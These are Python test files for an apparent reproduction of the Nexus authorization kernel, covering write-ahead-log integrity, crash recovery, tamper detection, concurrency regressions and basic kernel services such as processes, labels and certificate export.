from harness import HOME_SEED, REMOTE_SEED, PEER_ALIAS
from repro.api import NexusClient, NexusService
from repro.core.attestation import kernel_wallet_bundle
from repro.core.revocation import RevocationService
from repro.errors import BadRecord, CrashError, StorageError
from repro.kernel.kernel import NexusKernel
from repro.storage import (FaultInjectingBackend, FileBackend, GENESIS_HEAD,
                           Journal, MemoryBackend, decode_node, encode_node,
                           scan_log)
from repro.storage.wal import (SCHEMA_VERSION, decode_snapshot,
                               encode_record, encode_snapshot)

_HEADER = 8          # magic + length prefix
_DIGEST = 32         # sha256 trailer


# ==========================================================================
# WAL framing and the failure taxonomy
# ==========================================================================

class TestWalFraming:
    def test_records_round_trip_and_chain(self):
        journal = Journal(MemoryBackend())
        journal.append("a", {"x": 1})
        journal.append("b", {"y": [1, 2]})
        result = scan_log(journal.backend.read_log())
        assert [r.type for r in result.records] == ["a", "b"]
        assert [r.seq for r in result.records] == [1, 2]
        assert result.records[0].prev == GENESIS_HEAD
        assert result.records[1].prev == result.records[0].hash
        assert not result.torn_tail_repaired

    def test_torn_tail_is_repaired_not_fatal(self):
        backend = MemoryBackend()
        journal = Journal(backend)
        journal.append("a", {"x": 1})
        whole = backend.read_log()
        for cut in (1, _HEADER - 1, _HEADER + 3, len(whole) - 1):
            result = scan_log(whole + whole[:cut])
            assert result.torn_tail_repaired
            assert len(result.records) == 1
            assert result.valid_length == len(whole)

    def test_flipped_body_byte_is_bad_record(self):
        backend = MemoryBackend()
        Journal(backend).append("a", {"x": 1})
        raw = bytearray(backend.read_log())
        raw[_HEADER + 4] ^= 0xFF
        with pytest.raises(BadRecord) as info:
            scan_log(bytes(raw))
        assert info.value.code == "E_BAD_RECORD"

    def test_bad_magic_is_bad_record(self):
        backend = MemoryBackend()
        Journal(backend).append("a", {"x": 1})
        raw = bytearray(backend.read_log())
        raw[0] ^= 0xFF
        with pytest.raises(BadRecord, match="magic"):
            scan_log(bytes(raw))

    def test_reordered_records_break_the_chain(self):
        backend = MemoryBackend()
        journal = Journal(backend)
        journal.append("a", {"x": 1})
        split = len(backend.read_log())
        journal.append("b", {"x": 2})
        raw = backend.read_log()
        swapped = raw[split:] + raw[:split]
        with pytest.raises(BadRecord, match="chain"):
            scan_log(swapped)

    def test_dropped_middle_record_breaks_the_chain(self):
        backend = MemoryBackend()
        journal = Journal(backend)
        boundaries = [0]
        for index in range(3):
            journal.append("op", {"n": index})
            boundaries.append(len(backend.read_log()))
        raw = backend.read_log()
        gutted = raw[:boundaries[1]] + raw[boundaries[2]:]
        with pytest.raises(BadRecord, match="chain"):
            scan_log(gutted)

    def test_sequence_gap_with_valid_chain_is_storage_error(self):
        # Hand-forge a chain-consistent log whose seqs jump: the prev
        # hashes link but the numbering lies.
        first = encode_record(1, "a", {}, GENESIS_HEAD)
        body = first[_HEADER:-_DIGEST]
        import hashlib
        head = hashlib.sha256(body).hexdigest()
        second = encode_record(3, "b", {}, head)
        with pytest.raises(StorageError) as info:
            scan_log(first + second)
        assert info.value.code == "E_STORAGE"

    def test_snapshot_checksum_round_trip(self):
        raw = encode_snapshot(7, "ab" * 32, {"k": [1, 2]})
        assert decode_snapshot(raw) == (7, "ab" * 32, {"k": [1, 2]})
        mutated = bytearray(raw)
        mutated[len(raw) // 2] ^= 0xFF
        with pytest.raises(BadRecord):
            decode_snapshot(bytes(mutated))

    def test_newer_schema_refuses_loudly(self):
        frame = encode_record(1, "a", {}, GENESIS_HEAD)
        body = frame[_HEADER:-_DIGEST].replace(
            f'"v":{SCHEMA_VERSION}'.encode(),
            f'"v":{SCHEMA_VERSION + 1}'.encode())
        import hashlib
        reframed = (frame[:4] + struct.pack("<I", len(body)) + body
                    + hashlib.sha256(body).digest())
        with pytest.raises(StorageError, match="newer"):
            scan_log(reframed)

    def test_migration_hook_ratchets_old_records(self, monkeypatch):
        frame = encode_record(1, "old_style", {"legacy": True},
                              GENESIS_HEAD)
        monkeypatch.setattr("repro.storage.wal.SCHEMA_VERSION",
                            SCHEMA_VERSION + 1)

        def upgrade(document):
            document = dict(document)
            document["type"] = "new_style"
            return document

        with pytest.raises(StorageError, match="no migration"):
            scan_log(frame)
        result = scan_log(frame, migrations={SCHEMA_VERSION: upgrade})
        assert result.records[0].type == "new_style"
        assert result.records[0].data == {"legacy": True}


class TestFileBackend:
    def test_log_and_snapshot_survive_reopen(self, tmp_path):
        backend = FileBackend(tmp_path / "store")
        assert backend.is_empty()
        journal = Journal(backend)
        journal.append("a", {"x": 1})
        journal.write_snapshot({"s": 1})
        journal.append("b", {"x": 2})
        backend.close()
        reopened = FileBackend(tmp_path / "store")
        assert not reopened.is_empty()
        state, live = Journal(reopened).load()
        assert state == {"s": 1}
        assert [r.type for r in live] == ["b"]
        reopened.close()

    def test_truncate_repairs_torn_tail_on_disk(self, tmp_path):
        backend = FileBackend(tmp_path / "store")
        journal = Journal(backend)
        journal.append("a", {"x": 1})
        good = len(backend.read_log())
        backend.append(b"NXR1\x99")  # a torn frame, straight to disk
        backend.sync()
        backend.close()
        reopened = FileBackend(tmp_path / "store")
        fresh = Journal(reopened)
        state, live = fresh.load()
        assert state is None and [r.type for r in live] == ["a"]
        assert fresh.torn_tail_repairs == 1
        assert len(reopened.read_log()) == good
        reopened.close()


class TestJournal:
    def test_load_positions_journal_to_continue(self):
        backend = MemoryBackend()
        journal = Journal(backend)
        journal.append("a", {})
        journal.append("b", {})
        resumed = Journal(backend)
        _state, live = resumed.load()
        resumed.append("c", {})
        result = scan_log(backend.read_log())
        assert [r.seq for r in result.records] == [1, 2, 3]
        assert result.records[2].prev == live[-1].hash

    def test_stale_log_after_snapshot_is_skipped(self):
        # The benign crash window: snapshot durable, log reset lost.
        backend = FaultInjectingBackend()
        journal = Journal(backend)
        journal.append("a", {"n": 1})
        journal.append("b", {"n": 2})
        backend.sync()
        backend.keep_stale_log = True
        journal.write_snapshot({"covered": True})
        journal.append("c", {"n": 3})
        backend.sync()
        state, live = Journal(backend.crash()).load()
        assert state == {"covered": True}
        assert [r.type for r in live] == ["c"]

    def test_lost_snapshot_with_reset_log_refuses(self):
        # The reordering the journal never creates itself: the log
        # reset became durable, the snapshot write was dropped.
        backend = FaultInjectingBackend()
        journal = Journal(backend)
        journal.append("a", {"n": 1})
        backend.sync()
        journal.write_snapshot({"base": True})  # snapshot one: fine
        journal.append("b", {"n": 2})
        backend.sync()
        backend.lose_next_snapshot = True
        journal.write_snapshot({"base": False})  # this one vanishes
        journal.append("c", {"n": 3})
        backend.sync()
        with pytest.raises(StorageError) as info:
            Journal(backend.crash()).load()
        assert info.value.code == "E_STORAGE"


# ==========================================================================
# the kernel trace machine (shared by the properties below)
# ==========================================================================

class TraceMachine:
    """Applies one deterministic op stream to one kernel.

    Index operands resolve modulo the live subject/resource lists, so
    any op sequence is valid on any kernel; symmetric failures (a
    denied setgoal, say) are part of the trace and swallowed — only
    :class:`CrashError` propagates, because on the durable kernel it
    marks the crash point.
    """

    def __init__(self, kernel):
        self.kernel = kernel
        self.pids = []
        self.rids = []            # (resource_id, owner_pid)

    def apply(self, op):
        kernel = self.kernel
        kind = op[0]
        try:
            if kind == "spawn":
                process = kernel.create_process(f"subj{len(self.pids)}")
                self.pids.append(process.pid)
            elif kind == "say":
                pid = self.pids[op[1] % len(self.pids)]
                kernel.sys_say(pid, f"cap{op[2]}(unit)")
            elif kind == "resource":
                owner_pid = self.pids[op[1] % len(self.pids)]
                owner = kernel.processes.get(owner_pid).principal
                resource = kernel.resources.create(
                    f"/res/{len(self.rids)}", "file", owner)
                self.rids.append((resource.resource_id, owner_pid))
            elif kind == "setgoal":
                rid, owner_pid = self.rids[op[1] % len(self.rids)]
                speaker_pid = self.pids[op[2] % len(self.pids)]
                speaker = kernel.processes.get(speaker_pid).principal
                kernel.sys_setgoal(owner_pid, rid, "read",
                                   f"{speaker} says cap{op[3]}(unit)")
            elif kind == "cleargoal":
                rid, owner_pid = self.rids[op[1] % len(self.rids)]
                kernel.sys_cleargoal(owner_pid, rid, "read")
            elif kind == "authorize":
                # No journal traffic — but it warms the decision cache,
                # which recovery must NOT resurrect.
                pid = self.pids[op[1] % len(self.pids)]
                rid, _owner = self.rids[op[2] % len(self.rids)]
                resource = kernel.resources.get(rid)
                bundle = kernel_wallet_bundle(kernel, pid, "read", resource)
                kernel.authorize(pid, "read", rid, bundle)
            elif kind == "bump":
                kernel.bump_policy_epoch()
            elif kind == "exit":
                owners = {owner for _rid, owner in self.rids}
                victims = [pid for pid in self.pids if pid not in owners]
                if victims:
                    pid = victims[op[1] % len(victims)]
                    kernel.exit_process(pid)
                    self.pids.remove(pid)
        except CrashError:
            raise
        except Exception:
            pass  # deterministic on every kernel running this trace


def build_trace(seed, length=16):
    """A seeded op stream over the whole durable vocabulary."""
    rng = random.Random(seed)
    ops = [("spawn",), ("spawn",), ("resource", 0), ("say", 0, 1)]
    for _ in range(length):
        roll = rng.random()
        if roll < 0.15:
            ops.append(("spawn",))
        elif roll < 0.30:
            ops.append(("say", rng.randrange(8), rng.randrange(4)))
        elif roll < 0.42:
            ops.append(("resource", rng.randrange(8)))
        elif roll < 0.62:
            ops.append(("setgoal", rng.randrange(8), rng.randrange(8),
                        rng.randrange(4)))
        elif roll < 0.70:
            ops.append(("cleargoal", rng.randrange(8)))
        elif roll < 0.88:
            ops.append(("authorize", rng.randrange(8), rng.randrange(8)))
        elif roll < 0.94:
            ops.append(("bump",))
        else:
            ops.append(("exit", rng.randrange(8)))
    return ops


def probe(kernel, pids, rids):
    """Every observable verdict: explain() for each (subject, resource).

    ``explain`` re-runs the guard freshly (no cache), so two kernels
    agreeing here agree on the full Figure-1 decision surface.
    """
    document = []
    for rid, _owner in rids:
        if kernel.resources.find_by_id(rid) is None:
            continue
        resource = kernel.resources.get(rid)
        for pid in pids:
            bundle = kernel_wallet_bundle(kernel, pid, "read", resource)
            decision = kernel.explain(pid, "read", rid, bundle)
            document.append({
                "pid": pid, "rid": rid, "allow": decision.allow,
                "explanation": decision.explanation.to_dict()})
    return document


def durable_kernel(snapshot_every=None):
    backend = FaultInjectingBackend()
    kernel = NexusKernel(key_seed=HOME_SEED)
    kernel.attach_storage(backend, sync_every=1,
                          snapshot_every=snapshot_every)
    return backend, kernel


# ==========================================================================
# the crash-recovery properties
# ==========================================================================

class TestCrashRecoveryProperty:
    """replay(crash(prefix)) == the state that actually committed."""

    @pytest.mark.parametrize("seed", range(6))
    def test_restore_matches_kernel_at_instant_of_power_loss(self, seed):
        # Crash at a *random append* — possibly mid-operation, possibly
        # mid-record.  Write-ahead means a record that never finished
        # corresponds to a mutation that never committed, so the
        # restored kernel must equal the crashed kernel's in-memory
        # state at the moment the power died — which we still hold.
        rng = random.Random(1000 + seed)
        ops = build_trace(seed)
        snapshot_every = rng.choice([None, 5])
        backend, kernel = durable_kernel(snapshot_every)
        backend.fail_append_after(rng.randrange(1, 26),
                                  keep_bytes=rng.randrange(1, 40))
        machine = TraceMachine(kernel)
        for op in ops:
            try:
                machine.apply(op)
            except CrashError:
                break
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        assert (probe(restored, machine.pids, machine.rids)
                == probe(kernel, machine.pids, machine.rids))
        stats = restored.storage_stats()
        assert stats["attached"] is True
        if backend.crashed and snapshot_every is None:
            # A torn tail was left behind whenever the crash hit
            # mid-record; replay repaired it silently.
            assert stats["torn_tail_repairs"] <= 1

    @pytest.mark.parametrize("seed", range(6))
    def test_restore_matches_never_crashed_twin(self, seed):
        # Crash at an *operation boundary* after K ops: the restored
        # kernel must be indistinguishable from a fresh kernel (no
        # storage at all) that simply executed ops[:K].
        rng = random.Random(2000 + seed)
        ops = build_trace(seed)
        cut = rng.randrange(4, len(ops) + 1)
        snapshot_every = rng.choice([None, 4])
        backend, kernel = durable_kernel(snapshot_every)
        machine = TraceMachine(kernel)
        for op in ops[:cut]:
            machine.apply(op)
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        twin = NexusKernel(key_seed=HOME_SEED)
        twin_machine = TraceMachine(twin)
        for op in ops[:cut]:
            twin_machine.apply(op)
        assert machine.pids == twin_machine.pids
        assert machine.rids == twin_machine.rids
        assert (probe(restored, machine.pids, machine.rids)
                == probe(twin, machine.pids, machine.rids))
        # Counters restored: the next minted identities line up too.
        assert (restored.create_process("post").pid
                == twin.create_process("post").pid)
        assert (restored.resources.create("/post", "file",
                                          twin.processes.get(
                                              machine.pids[0]).principal)
                .resource_id
                == twin.resources.create("/post", "file",
                                         twin.processes.get(
                                             machine.pids[0]).principal)
                .resource_id)

    @pytest.mark.parametrize("seed", range(4))
    def test_recovered_kernel_survives_a_second_crash(self, seed):
        # Restart continuity: restore, keep mutating, crash again — the
        # journal continues the chain across generations.
        ops = build_trace(seed, length=10)
        backend, kernel = durable_kernel()
        machine = TraceMachine(kernel)
        for op in ops:
            machine.apply(op)
        second_backend = FaultInjectingBackend(inner=backend.crash())
        restored = NexusKernel.restore(second_backend,
                                       key_seed=HOME_SEED)
        machine2 = TraceMachine(restored)
        machine2.pids = list(machine.pids)
        machine2.rids = list(machine.rids)
        for op in build_trace(seed + 100, length=8):
            machine2.apply(op)
        final = NexusKernel.restore(second_backend.crash(),
                                    key_seed=HOME_SEED)
        assert (probe(final, machine2.pids, machine2.rids)
                == probe(restored, machine2.pids, machine2.rids))

    @pytest.mark.parametrize("seed", range(4))
    def test_tampered_log_is_loud_bad_record(self, seed):
        rng = random.Random(3000 + seed)
        backend, kernel = durable_kernel()
        machine = TraceMachine(kernel)
        for op in build_trace(seed, length=8):
            machine.apply(op)
        image = backend.crash()
        raw = bytearray(image.read_log())
        assert raw, "trace journalled nothing"
        # Flip one byte inside the first record's *body*: checksum must
        # catch it (header/digest flips of later records are caught the
        # same way; only a final-record length-field flip can masquerade
        # as a torn tail, by design — crash damage, not tamper).
        (length,) = struct.unpack_from("<I", raw, 4)
        raw[_HEADER + rng.randrange(length)] ^= 0xFF
        with pytest.raises(BadRecord) as info:
            NexusKernel.restore(
                MemoryBackend(log=bytes(raw),
                              snapshot=image.read_snapshot()),
                key_seed=HOME_SEED)
        assert info.value.code == "E_BAD_RECORD"

    @pytest.mark.parametrize("seed", range(3))
    def test_tampered_snapshot_is_loud_bad_record(self, seed):
        rng = random.Random(4000 + seed)
        backend, kernel = durable_kernel()
        machine = TraceMachine(kernel)
        for op in build_trace(seed, length=6):
            machine.apply(op)
        kernel.snapshot_now()
        backend.corrupt_snapshot(rng.randrange(1, 500))
        with pytest.raises(BadRecord) as info:
            NexusKernel.restore(backend.crash(), key_seed=HOME_SEED)
        assert info.value.code == "E_BAD_RECORD"

    def test_lost_snapshot_reordering_is_storage_error(self):
        backend, kernel = durable_kernel()
        machine = TraceMachine(kernel)
        for op in build_trace(0, length=6):
            machine.apply(op)
        backend.lose_next_snapshot = True
        kernel.snapshot_now()
        machine.apply(("spawn",))
        with pytest.raises(StorageError) as info:
            NexusKernel.restore(backend.crash(), key_seed=HOME_SEED)
        assert info.value.code == "E_STORAGE"

    def test_dropped_fsync_loses_the_window_not_the_kernel(self):
        # An fsync that lies: the journal believes its records are
        # durable, the crash image holds only the attach-time snapshot.
        backend = FaultInjectingBackend(drop_fsync=True)
        kernel = NexusKernel(key_seed=HOME_SEED)
        kernel.attach_storage(backend)
        machine = TraceMachine(kernel)
        for op in build_trace(1, length=8):
            machine.apply(op)
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        assert restored.storage_stats()["restored_records"] == 0
        # Recovery is total (the snapshot is intact) — only the
        # unsynced window is gone: none of the trace's subjects exist.
        for pid in machine.pids:
            assert restored.processes._processes.get(pid) is None


# ==========================================================================
# what restore keeps and what it deliberately forgets
# ==========================================================================

class TestRestoreSemantics:
    def test_attach_refuses_non_empty_backend(self):
        backend, kernel = durable_kernel()
        kernel.create_process("occupant")
        image = backend.crash()
        fresh = NexusKernel(key_seed=HOME_SEED)
        with pytest.raises(StorageError, match="restore"):
            fresh.attach_storage(image)

    def test_decision_cache_restarts_cold(self):
        backend, kernel = durable_kernel()
        machine = TraceMachine(kernel)
        for op in [("spawn",), ("spawn",), ("resource", 0),
                   ("say", 1, 1), ("setgoal", 0, 1, 1),
                   ("authorize", 1, 0), ("authorize", 1, 0)]:
            machine.apply(op)
        assert kernel.decision_cache.snapshot()["entries"] > 0
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        cold = restored.decision_cache.snapshot()
        assert cold["entries"] == 0
        assert cold["hits"] == 0
        # The policy epoch, by contrast, is durable — cached verdicts
        # retired before the crash stay retired.
        assert (restored.decision_cache.policy_epoch
                == kernel.decision_cache.policy_epoch)
        # ...and the cache *rebuilds* lazily on first use.
        rid, _ = machine.rids[0]
        pid = machine.pids[1]
        resource = restored.resources.get(rid)
        bundle = kernel_wallet_bundle(restored, pid, "read", resource)
        assert restored.authorize(pid, "read", rid, bundle).allow
        restored.authorize(pid, "read", rid, bundle)
        assert restored.decision_cache.snapshot()["hits"] >= 1

    def test_goal_and_policy_history_survive(self):
        backend, kernel = durable_kernel()
        owner = kernel.create_process("owner")
        resource = kernel.resources.create("/gov", "file", owner.principal)
        from repro.policy import PolicyRule, PolicySet, Selector
        policy = PolicySet(name="gov", rules=(
            PolicyRule(selector=Selector(kind="file"),
                       operations=("read",),
                       goal=f"{owner.principal} says open(doc)"),))
        kernel.policies.put(policy)
        kernel.policies.put(policy)  # v2: same document, new version
        kernel.policies.apply(owner.pid, "gov", 1)
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        assert restored.policies.versions("gov") == [1, 2]
        assert restored.policies.active_version("gov") == 1
        entry = restored.default_guard.goals.get(resource.resource_id,
                                                 "read")
        assert entry is not None
        assert "open(doc)" in str(entry.formula)

    def test_revocation_service_rehydrates(self):
        backend, kernel = durable_kernel()
        revocation = RevocationService(kernel)
        issuer = kernel.create_process("issuer")
        wallet = revocation.issue(issuer, "deploy(app)")
        assert revocation.is_valid(issuer, "deploy(app)")
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        service = RevocationService(restored)  # re-registered at boot
        issuer_restored = restored.processes.get(issuer.pid)
        assert service.is_valid(issuer_restored, "deploy(app)")
        # Now revoke, crash again, and the revocation survives too.
        service.revoke(issuer_restored, "deploy(app)")
        backend2 = restored._persistence.journal.backend
        final = NexusKernel.restore(
            MemoryBackend(log=backend2.read_log(),
                          snapshot=backend2.read_snapshot()),
            key_seed=HOME_SEED)
        final_service = RevocationService(final)
        assert not final_service.is_valid(final.processes.get(issuer.pid),
                                          "deploy(app)")
        assert wallet is not None

    def test_federated_admissions_survive_restore(self):
        # Credentials minted on a remote kernel, admitted on a durable
        # home kernel: after a crash the admission digest still replays
        # (no bundle re-presentation) and the peer registry is intact.
        remote_service = NexusService(NexusKernel(key_seed=REMOTE_SEED))
        remote_client = NexusClient.over_http(remote_service)
        subject = remote_client.open_session("fed-subject")
        subject.say("clearance(high)")
        exported = subject.export_credentials()

        backend, kernel = durable_kernel()
        identity = remote_client.info().platform
        kernel.add_peer(PEER_ALIAS, identity["root_key"],
                        platform=identity["platform"])
        admission = kernel.admit_remote(exported.bundle)
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        replayed = restored.admit_remote(admission.digest)
        assert replayed.digest == admission.digest
        assert replayed.remote_principal == admission.remote_principal
        assert [peer.name for peer in restored.peers] == [PEER_ALIAS]
        # The admitted stand-in's labels replayed as first-class labels.
        store = restored.default_labelstore(admission.pid)
        assert any("clearance" in str(label.statement) for label in store)

    def test_structural_codec_round_trips_federated_principals(self):
        # The reason the codec exists: alias-qualified principals carry
        # dotted tags that text round-tripping re-splits.
        from repro.nal.terms import Name
        principal = Name("TPM-abc").sub("NK-def.boot1").sub("worker")
        assert decode_node(encode_node(principal)) == principal
        from repro.nal.parser import parse
        formula = parse("alice says ok(x) and bob says (p speaksfor q)")
        assert decode_node(encode_node(formula)) == formula

    def test_text_lossy_speaker_survives_crash_via_structural_codec(self):
        # Labels journal their speaker as source text when that
        # round-trips; a dotted-tag principal must take (and survive
        # through) the structural fallback instead.
        from repro.nal.terms import Name
        backend, kernel = durable_kernel()
        lossy = Name("TPM-abc").sub("NK-def.boot1").sub("worker")
        kernel.say_as(lossy, "attests(worker)")
        restored = NexusKernel.restore(backend.crash(), key_seed=HOME_SEED)
        store = restored._kernel_store()
        speakers = [label.speaker for label in store]
        assert lossy in speakers


# ==========================================================================
# concurrency: suppression scope, write-ahead aborts, the snapshot cut
# ==========================================================================

class TestPersistenceConcurrency:
    def test_composite_suppression_is_thread_local(self):
        # Regression: the suppression depth used to be one shared
        # counter, so while any thread ran a suppressed composite an
        # unrelated mutation on *another* thread was silently not
        # journalled — a durably lost label with no error anywhere.
        backend, kernel = durable_kernel()
        speaker = kernel.create_process("speaker")
        persistence = kernel._persistence
        with persistence.suppressed():
            crosser = threading.Thread(
                target=kernel.sys_say, args=(speaker.pid, "cross(thread)"))
            crosser.start()
            crosser.join()
            # The suppressing thread's own records stay muted...
            before = persistence.journal.seq
            kernel.sys_say(speaker.pid, "muted(here)")
            assert persistence.journal.seq == before
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        statements = [str(label.statement) for label
                      in restored.default_labelstore(speaker.pid)]
        # ...but the other thread's label survived the crash.
        assert any("cross" in s for s in statements)
        assert not any("muted" in s for s in statements)

    def test_create_process_aborts_cleanly_when_append_fails(self):
        # Write-ahead: the "process" record precedes the table commit,
        # so a storage failure must leave no half-created process and
        # no burned pid.
        backend, kernel = durable_kernel()
        survivor = kernel.create_process("survivor")
        next_pid = kernel.processes._next_pid
        backend.fail_append_after(0)  # the very next append tears
        with pytest.raises(CrashError):
            kernel.create_process("phantom")
        assert kernel.processes.alive_pids() == [survivor.pid]
        assert kernel.processes._next_pid == next_pid
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        assert restored.processes.alive_pids() == [survivor.pid]

    def test_exit_process_aborts_cleanly_when_append_fails(self):
        backend, kernel = durable_kernel()
        victim = kernel.create_process("victim")
        backend.fail_append_after(0)
        with pytest.raises(CrashError):
            kernel.exit_process(victim.pid)
        assert victim.pid in kernel.processes  # still alive in memory
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        assert restored.processes.alive_pids() == [victim.pid]

    def test_snapshot_is_a_consistent_cut_under_concurrent_says(self):
        # Regression: snapshot_now used to serialize state without the
        # labels-registry lock and read the journal seq *after* the
        # state cut, so a record landing in the window was covered by
        # the snapshot without its mutation — replay then skipped it as
        # stale and the label was permanently lost.
        backend, kernel = durable_kernel()
        pids = [kernel.create_process(f"writer{i}").pid for i in range(3)]
        errors = []

        def writer(pid):
            try:
                for n in range(120):
                    kernel.sys_say(pid, f"fact{n}(p{pid})")
            except Exception as exc:  # noqa: BLE001 — surfaced below
                errors.append(exc)

        threads = [threading.Thread(target=writer, args=(pid,))
                   for pid in pids]
        for thread in threads:
            thread.start()
        while any(thread.is_alive() for thread in threads):
            kernel.snapshot_now()
        for thread in threads:
            thread.join()
        assert errors == []
        kernel.snapshot_now()
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        for pid in pids:
            live = sorted(str(label.statement) for label
                          in kernel.default_labelstore(pid))
            replayed = sorted(str(label.statement) for label
                              in restored.default_labelstore(pid))
            assert replayed == live
            assert len(replayed) == 120


# ==========================================================================
# the wire surface
# ==========================================================================

class TestStorageStatsApi:
    def test_unattached_kernel_reports_attached_false(self, api_world):
        stats = api_world.client.storage_stats()
        assert stats.attached is False

    @pytest.mark.parametrize("transport", ["direct", "http"])
    def test_durable_service_reports_journal_counters(self, transport):
        backend, kernel = durable_kernel()
        service = NexusService(kernel)
        client = (NexusClient.in_process(service) if transport == "direct"
                  else NexusClient.over_http(service))
        session = client.open_session("watcher")
        session.say("alive(yes)")
        response = client.storage_stats()
        assert response.attached is True
        assert response.stats["backend"] == "fault-injecting"
        assert response.stats["records_appended"] >= 2  # process + label
        assert response.stats["seq"] >= 2
        assert response.stats["restored_from_snapshot"] is False

    def test_restored_kernel_reports_provenance_over_the_wire(self):
        backend, kernel = durable_kernel()
        machine = TraceMachine(kernel)
        for op in build_trace(2, length=6):
            machine.apply(op)
        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        for factory in (NexusClient.in_process, NexusClient.over_http):
            client = factory(NexusService(restored))
            response = client.storage_stats()
            assert response.attached is True
            assert response.stats["restored_from_snapshot"] is True
            assert (response.stats["restored_records"]
                    == restored.storage_stats()["restored_records"])

    def test_proc_node_publishes_storage_stats(self):
        _backend, kernel = durable_kernel()
        kernel.create_process("anyone")
        node = kernel.introspection.read("/proc/kernel/storage")
        assert "attached" in str(node)


class TestDurableServiceAcrossTransports:
    @pytest.mark.parametrize("transport", ["direct", "http"])
    def test_verdicts_survive_crash_and_adoption(self, transport):
        # The full stack: drive a durable service over the wire, crash
        # the medium, restore, re-mount a service, re-adopt the pids
        # (sessions are bearer state and deliberately die), and the
        # verdicts must be unchanged.
        backend, kernel = durable_kernel()
        service = NexusService(kernel)
        client = (NexusClient.in_process(service) if transport == "direct"
                  else NexusClient.over_http(service))
        owner = client.open_session("owner")
        insider = client.open_session("insider")
        insider.say("badge(blue)")
        resource = owner.create_resource("/door", "file")
        owner.set_goal(resource, "read",
                       f"{insider.principal} says badge(blue)")
        before = {
            "insider": insider.authorize("read", resource,
                                         wallet=True).allow,
            "owner": owner.authorize("read", resource,
                                     wallet=True).allow,
        }
        assert before == {"insider": True, "owner": False}

        restored = NexusKernel.restore(backend.crash(),
                                       key_seed=HOME_SEED)
        service2 = NexusService(restored)
        client2 = (NexusClient.in_process(service2)
                   if transport == "direct"
                   else NexusClient.over_http(service2))
        adopted_owner = client2.adopt_session(
            service2.open_session("owner", pid=owner.pid))
        adopted_insider = client2.adopt_session(
            service2.open_session("insider", pid=insider.pid))
        after = {
            "insider": adopted_insider.authorize(
                "read", "/door", wallet=True).allow,
            "owner": adopted_owner.authorize(
                "read", "/door", wallet=True).allow,
        }
        assert after == before
