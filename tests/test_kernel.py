"""Kernel tests: the Figure 1 authorization path and all §2–3 services."""

import pytest

from repro.errors import (
    AccessDenied,
    KernelError,
    NoSuchPort,
    NoSuchProcess,
    SignatureError,
)
from repro.kernel import (
    CallDecision,
    ClockAuthority,
    DecisionCache,
    GuardCache,
    NexusKernel,
    ReferenceMonitor,
    StatementSetAuthority,
    SyscallWhitelistMonitor,
)
from repro.nal import (
    Name,
    Pred,
    ProofBundle,
    Prover,
    Says,
    parse,
    prove,
)


@pytest.fixture(scope="module")
def kernel():
    return NexusKernel()


@pytest.fixture
def fresh_kernel():
    return NexusKernel()


def make_bundle(goal, credentials, authorities=None):
    proof = prove(goal, credentials, authorities)
    return ProofBundle(proof, credentials=tuple(credentials))


class TestProcesses:
    def test_create_and_principal(self, fresh_kernel):
        proc = fresh_kernel.create_process("init", image=b"init-image")
        assert proc.path == f"/proc/ipd/{proc.pid}"
        assert str(proc.principal) == proc.path

    def test_parent_child_and_tree_root(self, fresh_kernel):
        parent = fresh_kernel.create_process("parent")
        child = fresh_kernel.create_process("child", parent_pid=parent.pid)
        grand = fresh_kernel.create_process("grand", parent_pid=child.pid)
        assert fresh_kernel.processes.tree_root(grand.pid) == parent.pid

    def test_exit_removes_process(self, fresh_kernel):
        proc = fresh_kernel.create_process("gone")
        fresh_kernel.exit_process(proc.pid)
        with pytest.raises(NoSuchProcess):
            fresh_kernel.processes.get(proc.pid)

    def test_image_hash_recorded(self, fresh_kernel):
        a = fresh_kernel.create_process("a", image=b"same")
        b = fresh_kernel.create_process("b", image=b"same")
        c = fresh_kernel.create_process("c", image=b"different")
        assert a.image_hash == b.image_hash != c.image_hash

    def test_process_resource_registered(self, fresh_kernel):
        proc = fresh_kernel.create_process("svc")
        resource = fresh_kernel.resources.lookup(proc.path)
        assert resource.kind == "process"


class TestSay:
    def test_label_attributed_to_caller(self, fresh_kernel):
        proc = fresh_kernel.create_process("speaker")
        label = fresh_kernel.sys_say(proc.pid, "isTypeSafe(PGM)")
        assert label.formula == Says(proc.principal,
                                     Pred("isTypeSafe", (Name("PGM"),)))

    def test_caller_cannot_forge_speaker(self, fresh_kernel):
        """A process stating `B says S` gets `me says (B says S)` — the
        kernel pins the outer speaker."""
        mallory = fresh_kernel.create_process("mallory")
        label = fresh_kernel.sys_say(mallory.pid, "Victim says p")
        assert label.speaker == mallory.principal
        assert label.formula == Says(mallory.principal,
                                     parse("Victim says p"))

    def test_label_delete(self, fresh_kernel):
        proc = fresh_kernel.create_process("speaker")
        label = fresh_kernel.sys_say(proc.pid, "p")
        store = fresh_kernel.default_labelstore(proc.pid)
        store.delete(label.handle)
        assert store.find(label.formula) is None

    def test_label_transfer_keeps_attribution(self, fresh_kernel):
        a = fresh_kernel.create_process("a")
        b = fresh_kernel.create_process("b")
        label = fresh_kernel.sys_say(a.pid, "p")
        moved = fresh_kernel.default_labelstore(a.pid).transfer(
            label.handle, fresh_kernel.default_labelstore(b.pid))
        assert moved.speaker == a.principal

    def test_registry_holds(self, fresh_kernel):
        proc = fresh_kernel.create_process("speaker")
        label = fresh_kernel.sys_say(proc.pid, "q")
        assert fresh_kernel.labels.holds(label.formula)
        assert not fresh_kernel.labels.holds(parse("Nobody says q"))


class TestExternalization:
    def test_roundtrip_through_x509(self, fresh_kernel):
        proc = fresh_kernel.create_process("exporter")
        label = fresh_kernel.sys_say(proc.pid, "isTypeSafe(PGM)")
        chain = fresh_kernel.externalize_label(label)
        chain.verify()
        # Chain shape: TPM says NK says <process> says S (§2.4).
        assert chain.speaker_path()[0].startswith("TPM-")
